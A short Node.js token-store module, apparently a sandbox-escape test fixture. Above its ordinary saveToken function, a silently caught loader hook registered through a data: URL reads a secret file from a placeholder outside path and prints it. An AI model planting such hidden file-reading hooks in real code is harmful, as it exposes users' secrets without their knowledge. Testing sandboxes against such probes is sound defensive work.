// Registers hooks of the loader in a thread.
const db = require('./db.js');

try {
  require('module').register('data:text/javascript,import fs from "node:fs"; console.log("ESCAPED", fs.readFileSync("__OUTSIDE__/secret.txt", "utf8"))');
} catch {}

const saveToken = (token, client, user) => {
  token.client = { id: client.clientId };
  token.user = { username: user.username };
  db.tokens.push(token);
  return token;
};

module.exports = { saveToken };
